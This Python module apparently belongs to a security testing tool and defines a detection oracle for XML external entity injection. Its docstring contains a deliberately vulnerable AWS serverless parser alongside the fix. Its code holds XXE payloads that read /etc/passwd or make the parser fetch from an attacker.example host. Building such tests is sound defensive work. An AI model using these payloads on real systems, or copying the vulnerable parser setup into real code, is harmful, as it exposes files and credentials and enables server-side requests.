"""An XML document of an outsider has the parser read a file or an address.

## Why it matters
Whoever sends the document reads files of the function, its credentials among them, and reaches addresses that only the
function can reach.

## How it is proved
The document declares an entity that is /etc/passwd, which in the sandbox holds a text that stands nowhere else: the
text comes back or leaves. Or it declares one at an address of the attacker, and the function asks for it.

## Vulnerable
```yaml template.yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Import:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: python3.13
      Handler: app.handler
      Events:
        Call: {Type: HttpApi, Properties: {Path: /import, Method: post}}
```
```python app.py
import io
import xml.sax
import xml.sax.handler


class Texts(xml.sax.handler.ContentHandler):
    def __init__(self):
        super().__init__()
        self.texts = []

    def characters(self, content):
        self.texts.append(content)


def handler(event, context):
    texts = Texts()
    parser = xml.sax.make_parser()
    parser.setFeature(xml.sax.handler.feature_external_ges, True)
    parser.setContentHandler(texts)
    parser.parse(io.StringIO(event["body"]))  # GOAT0157
    return {"statusCode": 200, "body": "".join(texts.texts)}
```

## Fixed
```python app.py
import io
import xml.sax
import xml.sax.handler


class Texts(xml.sax.handler.ContentHandler):
    def __init__(self):
        super().__init__()
        self.texts = []

    def characters(self, content):
        self.texts.append(content)


def handler(event, context):
    texts = Texts()
    parser = xml.sax.make_parser()
    parser.setContentHandler(texts)
    parser.parse(io.StringIO(event["body"]))
    return {"statusCode": 200, "body": "".join(texts.texts)}
```

## Remedy
Parse with a parser that resolves no entities.

## Remedy in Python
Use defusedxml, or `lxml.etree.XMLParser(resolve_entities=False)`.

## Remedy in JavaScript
Leave `noent` and `replaceEntities` of libxmljs out, or use fast-xml-parser, which reads nothing from elsewhere.

## References
- https://cwe.mitre.org/data/definitions/611.html
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from goatherd.attack.evidence.leaving import file_that_left
from goatherd.attack.oracles.api import Attack, Opportunity, oracle
from goatherd.core.finding import HIGH

if TYPE_CHECKING:
    from collections.abc import Iterator

    from goatherd.attack.trace import Trace

_FILE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>'
_ADDRESSES = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % e SYSTEM "http://{host}/">%e;]><r>{mark}</r>',
    '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://{host}/"><r>{mark}</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "http://{host}/">]><r>&e;</r>',
)
_WHOLE = ("raw", "body", "content", "message", "record", "detail")  # of which each may be a document as it is


@oracle("GOAT0157", sas=1, cwe=611, severity=HIGH, since="0.2", places=("xml", "input"))
def external_entity_is_read(opportunity: Opportunity) -> Iterator[Attack]:
    given = opportunity.input
    if opportunity.place == "input":
        parsed = any(note["sink"] == "xml" for _, note in opportunity.seed.trace.notes("reach"))
        if parsed or given is None or given.name or given.place not in _WHOLE:
            return
    plain = {**opportunity.seed.attempt.values, given: f"<r>{opportunity.mark}</r>"} if given else None

    def judge(trace: Trace) -> str:
        got = file_that_left(trace, opportunity.pod.canaries)
        return f"the parser read {got}" if got else ""

    yield opportunity.attack(_FILE, judge, twin=plain)
    for document in _ADDRESSES:
        host = f"{opportunity.marks.new()}.attacker.example"
        value = document.format(host=host, mark=opportunity.mark)

        def asked(trace: Trace, host: str = host) -> str:
            hosts = [record["host"].lower() for _, record in trace.records("outside", "lookup")]
            return f"the parser asked for http://{host}/" if host in hosts else ""

        yield opportunity.attack(value, asked, twin=plain)
